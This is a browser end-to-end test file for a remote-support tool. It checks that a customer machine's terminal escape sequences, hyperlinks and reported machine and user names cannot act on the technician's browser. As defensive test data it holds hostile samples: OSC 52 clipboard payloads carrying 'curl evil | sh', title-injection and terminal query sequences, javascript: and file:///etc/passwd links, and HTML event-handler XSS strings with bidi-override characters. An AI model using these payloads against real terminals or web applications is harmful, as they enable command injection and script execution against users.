"""Terminal safety for the technician: the customer's machine cannot act on the browser.

Issue: escape sequences from the customer's machine must not act on the
technician's machine — no clipboard write (OSC 52), no title or status
reports echoed back as input, links (OSC 8 and plain URLs) opened only after
showing the URL; client-supplied strings (machine name, user name) are
untrusted everywhere (DESIGN.md, non-negotiable 5 and "Browser security").

Every test drives headless Chromium against a real broker and a real
``tether-client`` whose shell prints the hostile bytes. The bytes live in a
file on the customer's machine and the technician only types ``cat FILE`` (or
runs a small probe): so anything attacker-chosen that shows up later as
*input* — in the recording's ``i`` events or on the PTY — can only have been
sent back by the browser's terminal.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import re
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import PASSWORD
from tests.e2e.conftest import sign_in, type_line, wait_terminal
from tests.helpers import Broker, Customer, T

pw = pytest.importorskip("playwright.async_api")
expect = pw.expect

pytestmark = pytest.mark.browser

MS = 1000  # Playwright counts in milliseconds
WAIT = 3 * T * MS
PROMPT = re.compile(r"[#$] *$", re.M)
#: every attacker-chosen string below contains this; it must never come back as input
MARK = "ZQX"

#: Records every way a page could write the clipboard, from before the page's own scripts.
CLIPBOARD_SPY = """
window.__clip = [];
(() => {
  const note = (what) => window.__clip.push(what);
  const c = navigator.clipboard;
  if (c) {
    const writeText = c.writeText.bind(c);
    const write = c.write.bind(c);
    c.writeText = (t) => { note('writeText:' + String(t).slice(0, 200)); return writeText(t); };
    c.write = (d) => { note('write'); return write(d); };
  }
  const exec = document.execCommand.bind(document);
  document.execCommand = (cmd, ...rest) => {
    note('execCommand:' + cmd);
    return exec(cmd, ...rest);
  };
  document.addEventListener('copy', () => note('copy event'), true);
  document.addEventListener('cut', () => note('cut event'), true);
})();
"""

#: Where a piece of text is drawn in the DOM renderer's rows (the centre of its first cell).
FIND_TEXT = """
(needle) => {
  const rows = document.querySelector('#terminal .xterm-rows');
  const walker = document.createTreeWalker(rows, NodeFilter.SHOW_TEXT);
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const at = n.data.indexOf(needle);
    if (at < 0) continue;
    const range = document.createRange();
    range.setStart(n, at);
    range.setEnd(n, at + 1);
    const box = range.getBoundingClientRect();
    return {x: box.x + box.width / 2, y: box.y + box.height / 2};
  }
  return null;
}
"""


# --- the customer's machine -------------------------------------------------------------


def hostile_customer(broker: Broker, tmp: Path, machine: str | None = None,
                     user: str | None = None) -> Customer:
    """A real ``tether-client``; a ``sitecustomize`` makes the host report the given names
    (the client reads them from ``socket.gethostname()`` and ``getpass.getuser()``)."""
    site = tmp / "site"
    site.mkdir(parents=True, exist_ok=True)
    lines = ["import getpass, socket"]
    if machine is not None:
        lines.append(f"socket.gethostname = lambda: {machine!r}")
    if user is not None:
        lines.append(f"getpass.getuser = lambda: {user!r}")
    (site / "sitecustomize.py").write_text("\n".join(lines) + "\n")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PYTHONPATH", os.pathsep.join(
            filter(None, [str(site), os.environ.get("PYTHONPATH")])))
        return Customer(broker, "--consent-timeout", "5", tmp=tmp)


@pytest.fixture
def plain_customer(broker: Broker, customers: list[Customer], tmp_path: Path) -> Customer:
    c = hostile_customer(broker, tmp_path / "customer")
    customers.append(c)
    return c


#: A small program run in the customer's shell: it prints the hostile bytes with the
#: terminal in raw mode, then records every byte that comes back on its stdin (what the
#: technician's terminal answered) until the technician types the end marker.
PROBE = r"""
import os, select, sys, termios, time, tty
payload, capture, end = sys.argv[1], sys.argv[2], b"~probe-end~"
fd = sys.stdin.fileno()
saved = termios.tcgetattr(fd)
tty.setraw(fd)  # answers arrive byte for byte, neither echoed nor interpreted by a shell
got = b""
try:
    with open(payload, "rb") as f:
        os.write(1, f.read())
    os.write(1, b"\x1b[0m\r\nprobe-" + b"ready\r\n")
    deadline = time.monotonic() + 60
    while end not in got and time.monotonic() < deadline:
        if select.select([fd], [], [], 0.2)[0]:
            got += os.read(fd, 4096)
finally:
    termios.tcsetattr(fd, termios.TCSAFLUSH, saved)
    with open(capture, "wb") as f:
        f.write(got)
os.write(1, b"probe-" + b"finished\r\n")
"""

ST, BEL = "\x1b\\", "\x07"
#: Sequences a hostile shell prints, each with the attacker-chosen text marked.
HOSTILE_OUTPUT = "".join([
    # OSC 52: write the technician's clipboard (selections c, p, s and the empty default)
    f"\x1b]52;c;{base64.b64encode(f'{MARK}clip; curl evil | sh'.encode()).decode()}{BEL}",
    f"\x1b]52;p;{base64.b64encode(f'{MARK}primary'.encode()).decode()}{ST}",
    f"\x1b]52;;{base64.b64encode(f'{MARK}default'.encode()).decode()}{ST}",
    # OSC 0 / 1 / 2: set the window title and icon label
    f"\x1b]0;{MARK}title0;touch pwned{BEL}",
    f"\x1b]1;{MARK}icon{BEL}",
    f"\x1b]2;{MARK}title2{ST}",
    # ... then ask for them back: CSI 21 t (title), CSI 20 t (icon label); push/pop
    "\x1b[22;0t\x1b[21t\x1b[20t\x1b[23;0t",
    # OSC 21 (and with a body), an unknown OSC with a query
    f"\x1b]21{BEL}\x1b]21;{MARK}osc21=?{ST}\x1b]777;{MARK}notify;?{BEL}",
    # DECRQSS: known and unknown settings, one carrying attacker text
    f"\x1bP$qm{ST}\x1bP$q r{ST}\x1bP$q\"q{ST}\x1bP$qr{ST}\x1bP$q{MARK}rqss{ST}",
    # XTGETTCAP with attacker-chosen hex ("ZQX" = 5a5158), DECUDK
    f"\x1bP+q5a5158{ST}\x1bP1|17/{MARK.encode().hex()}{ST}",
    # cursor position, status and device attribute reports; window size reports
    "\x1b[6n\x1b[?6n\x1b[5n\x1b[c\x1b[>c\x1b[=c\x1b[18t\x1b[14t\x1b[19t\x1b[11t\x1b[13t",
    # mode reports (DECRQM), colour queries, answerback (ENQ)
    f"\x1b[?2004$p\x1b[4$p\x1b]10;?{BEL}\x1b]11;?{ST}\x1b]4;1;?{BEL}\x05",
    f"visible-text-{MARK}-after\r\n",
])

#: Answers xterm.js may legitimately send: numbers and fixed letters only, so nothing in
#: them can be chosen by whoever printed the query.
HARMLESS_ANSWER = re.compile(
    r"\x1b\[[?>=]?[0-9;]*(?:R|n|c|t|\$y)"  # CPR, DSR, DA1/2/3, window reports, DECRQM
    r"|\x1bP[01]\$r[0-9;]*(?: q|\"q|\"p|r|m)?\x1b\\"  # DECRQSS, its fixed answers
    r"|\x1b\](?:1[0-9]|4;[0-9]+);rgb:[0-9a-f]{2,4}/[0-9a-f]{2,4}/[0-9a-f]{2,4}(?:\x07|\x1b\\)"
)


# --- the technician's browser -------------------------------------------------------------


async def open_session(page: Any, problems: Any, broker: Broker, customer: Customer) -> str:
    """Sign in as alice, enter the customer's code; returns the session id once allowed."""
    await sign_in(page, broker, "alice", PASSWORD)
    await expect(page.get_by_label("Session code")).to_be_visible(timeout=WAIT)
    await page.get_by_label("Session code").fill(await asyncio.to_thread(customer.code))
    await page.get_by_role("button", name="Connect").click()
    await page.wait_for_url(re.compile(r"/sessions/s_[\w-]+$"))
    await expect(page.locator("#consent-session")).to_have_text(
        "waiting for the customer", timeout=WAIT)
    await asyncio.to_thread(customer.accept_session)
    await expect(page.locator("#consent-session")).to_have_text("allowed", timeout=WAIT)
    await expect(page.locator("#session-state")).to_have_text("Active", timeout=WAIT)
    await problems.check(page)
    return page.url.rsplit("/", 1)[1]


async def open_terminal(page: Any, customer: Customer) -> None:
    await page.get_by_role("button", name="Open shell").click()
    await asyncio.to_thread(customer.accept_shell)
    await expect(page.locator("#shell-status")).to_have_text("Connected", timeout=WAIT)
    await wait_terminal(page, PROMPT.pattern, "a shell prompt")


async def until(pred: Any, what: str) -> None:
    deadline = time.monotonic() + 3 * T
    while not pred():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


def recorded_input(broker: Broker, sid: str) -> str:
    """Everything the broker relayed from the viewer to the customer's PTY (``i`` events)."""
    casts = list((broker.data / "recordings" / sid).glob("*.cast"))
    assert len(casts) == 1, casts
    events = [json.loads(line) for line in casts[0].read_text().splitlines()[1:]]
    return "".join(e[2] for e in events if e[1] == "i")


# --- 1. output that tries to act on the technician's side -----------------------------------


async def test_hostile_output_writes_no_clipboard_sets_no_title_and_types_nothing(
        broker, plain_customer, browser_page, tmp_path):
    page, problems = browser_page
    customer = plain_customer
    context = page.context
    await context.grant_permissions(["clipboard-read", "clipboard-write"], origin=broker.url)
    await context.add_init_script(CLIPBOARD_SPY)

    work = tmp_path / "probe"
    work.mkdir()
    payload, capture, probe = work / "payload.bin", work / "capture.bin", work / "probe.py"
    payload.write_bytes(HOSTILE_OUTPUT.encode())
    probe.write_text(PROBE)
    pwned = tmp_path / "customer" / "home" / "pwned"  # where the shell starts
    assert not pwned.exists()

    sid = await open_session(page, problems, broker, customer)
    await open_terminal(page, customer)
    title_before = await page.title()
    assert MARK not in title_before
    # the clipboard holds something of the technician's before the customer prints anything
    await page.evaluate("navigator.clipboard.writeText('the technician\\'s own text')")
    assert await page.evaluate("navigator.clipboard.readText()") == "the technician's own text"
    # the spy sees clipboard writes on this page (it saw that one)
    assert await page.evaluate("window.__clip") == ["writeText:the technician's own text"]
    await page.evaluate("window.__clip = []")

    command = f"{sys.executable} {probe} {payload} {capture}"
    await type_line(page, command)
    # "probe-ready" is printed after the hostile bytes: once xterm.js shows it, it has parsed
    # them all, and any answer it makes has already gone to the relay, ahead of the end marker
    await wait_terminal(page, r"^probe-ready", "the probe's hostile output")
    await wait_terminal(page, rf"visible-text-{MARK}-after", "the text after the sequences")
    await type_line(page, "~probe-end~", enter=False)
    await wait_terminal(page, r"^probe-finished", "the end of the probe")
    # the shell still has a clean line: nothing was left in it to run
    await type_line(page, "echo clean-$((3*4))")
    await wait_terminal(page, r"^clean-12 *$", "a command typed after the probe")

    # OSC 52: no clipboard API was called and the clipboard still holds the technician's text
    assert await page.evaluate("window.__clip") == []
    assert await page.evaluate("navigator.clipboard.readText()") == "the technician's own text"
    # OSC 0/1/2: the page title is the console's own
    assert await page.title() == title_before
    assert MARK not in await page.evaluate("document.title")

    # What the PTY received while the probe listened: only the end marker the technician
    # typed and answers with no attacker-chosen text (e.g. a cursor position report)
    answered = capture.read_bytes().decode("utf-8", "replace")
    assert answered.endswith("~probe-end~"), repr(answered)
    answers = answered[: -len("~probe-end~")]
    assert MARK not in answers and MARK.encode().hex() not in answers, repr(answers)
    assert "\r" not in answers and "\n" not in answers, repr(answers)
    assert re.fullmatch(f"(?:{HARMLESS_ANSWER.pattern})*", answers), (
        f"the terminal sent something back that is not a fixed-form report: {answers!r}")

    # The same seen by the broker: the recording's input is what was typed, plus those answers
    relayed = recorded_input(broker, sid)
    typed = [command + "\r", "~probe-end~", "echo clean-$((3*4))\r"]
    assert relayed == typed[0] + answers + typed[1] + typed[2], repr(relayed)
    assert MARK not in relayed
    assert not pwned.exists()
    await problems.check(page)


# --- 2. links ------------------------------------------------------------------------------

OSC8_URL = "https://127.0.0.1:9/osc8-target?q=1"
PLAIN_URL = "https://127.0.0.1:9/plain-target"
LINKS = (
    f"\x1b]8;;{OSC8_URL}\x1b\\docs-{MARK}-link\x1b]8;;\x1b\\ (an OSC 8 hyperlink)\r\n"
    f"see {PLAIN_URL} for details\r\n"
    f"\x1b]8;;javascript:window.__pwned=1\x1b\\js-{MARK}-link\x1b]8;;\x1b\\\r\n"
    f"\x1b]8;;file:///etc/passwd\x1b\\file-{MARK}-link\x1b]8;;\x1b\\\r\n"
    "links-printed\r\n"
)


async def click_text(page: Any, needle: str) -> None:
    """Hover over the text in the terminal (xterm.js finds links on mouse moves), then click."""
    spot = await page.evaluate(FIND_TEXT, needle)
    assert spot, f"{needle!r} is not on the terminal"
    await page.mouse.move(spot["x"] - 3, spot["y"])
    await page.mouse.move(spot["x"], spot["y"])
    await asyncio.sleep(0.2)  # the link provider runs after the move
    await page.mouse.click(spot["x"], spot["y"])


async def test_links_open_only_after_the_url_is_shown(broker, plain_customer, browser_page,
                                                      tmp_path):
    page, problems = browser_page
    customer = plain_customer
    context = page.context
    opened: list[str] = []

    async def fake_site(route: Any) -> None:  # nothing leaves the machine; the URL is recorded
        opened.append(route.request.url)
        await route.fulfill(status=200, content_type="text/plain", body="not really there")

    await context.route("https://127.0.0.1:9/**", fake_site)
    dialogs: list[str] = []
    answers: list[bool] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        yes = answers.pop(0) if answers else False
        asyncio.ensure_future(dialog.accept() if yes else dialog.dismiss())

    page.on("dialog", on_dialog)

    links = tmp_path / "links.bin"
    links.write_bytes(LINKS.encode())
    await open_session(page, problems, broker, customer)
    await open_terminal(page, customer)
    session_url = page.url
    await type_line(page, f"cat {links}")
    await wait_terminal(page, r"^links-printed", "the links")

    for needle, url in ((f"docs-{MARK}-link", OSC8_URL), ("https://127.0.0.1:9/plain", PLAIN_URL)):
        # hovering shows where the link goes
        spot = await page.evaluate(FIND_TEXT, needle)
        assert spot, needle
        await page.mouse.move(spot["x"], spot["y"])
        await expect(page.locator("#link-preview")).to_have_text(f"Link: {url}", timeout=WAIT)

        # a click asks first, naming the exact URL; "Cancel" opens nothing
        answers.append(False)
        await click_text(page, needle)
        await until(lambda: len(dialogs) == 1, "the confirm dialog")
        assert url in dialogs[0], dialogs
        await asyncio.sleep(0.5)
        assert len(context.pages) == 1 and opened == [], (context.pages, opened)
        assert page.url == session_url

        # "OK" opens exactly that URL in a new tab, and nothing else
        answers.append(True)
        async with context.expect_page(timeout=WAIT) as new_page:
            await click_text(page, needle)
        popup = await new_page.value
        await popup.wait_for_load_state()
        assert popup.url == url
        assert len(dialogs) == 2 and url in dialogs[1], dialogs
        assert opened == [url]
        # no opener: the customer's page cannot steer the console tab
        assert await popup.evaluate("window.opener") is None
        await popup.close()
        assert page.url == session_url
        dialogs.clear()
        opened.clear()

    # javascript: and file: links are neither opened nor even offered
    answers.extend([True, True])
    for needle in (f"js-{MARK}-link", f"file-{MARK}-link"):
        await click_text(page, needle)
        await asyncio.sleep(0.5)
    assert dialogs == [] and opened == [] and len(context.pages) == 1
    assert await page.evaluate("window.__pwned") is None
    assert page.url == session_url
    await problems.check(page)


# --- 3. names from the customer's machine ---------------------------------------------------

MACHINE = f"<img src=x onerror=window.__pwned=1>\x1b[31m\r\n\u202e{MARK}m\x07"
USER = f"<svg onload=window.__pwned=2>\u202e\u2066{MARK}u\x1b]0;t\x07"


async def test_hostile_machine_and_user_names_are_shown_inert(broker, customers, browser_page,
                                                              tmp_path):
    page, problems = browser_page
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    customer = hostile_customer(broker, tmp_path / "customer", machine=MACHINE, user=USER)
    customers.append(customer)
    await open_session(page, problems, broker, customer)
    machine, user = page.locator("#f-machine"), page.locator("#f-user")
    await expect(user).to_contain_text(f"{MARK}u", timeout=WAIT)

    async def shown_inert(where: str) -> None:
        for cell, markup in ((machine, "<img src=x onerror=window.__pwned=1>"),
                             (user, "<svg onload=window.__pwned=2>")):
            text = await cell.inner_text()
            assert markup in text, (where, text)  # shown as text...
            assert await cell.locator("img, svg, script").count() == 0, where  # ...not markup
            assert await cell.locator("bdi.untrusted").count() == 1, where
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
                                 text), (where, text)
        assert await page.evaluate("window.__pwned") is None, where

    await shown_inert("live update")
    await page.reload()  # the server-rendered page
    await expect(user).to_contain_text(f"{MARK}u", timeout=WAIT)
    await shown_inert("server-rendered page")

    # the dashboard's list shows them the same way
    await page.goto(broker.url + "/")
    row = page.locator("#sessions-body tr", has_text=f"{MARK}m")
    await expect(row).to_have_count(1, timeout=WAIT)
    assert await row.locator("img, svg, script").count() == 0
    assert "<img src=x onerror=window.__pwned=1>" in await row.inner_text()
    assert await page.evaluate("window.__pwned") is None
    assert not [u for u in requests if re.search(r"/x(?:$|\?)", u)], requests
    await problems.check(page)
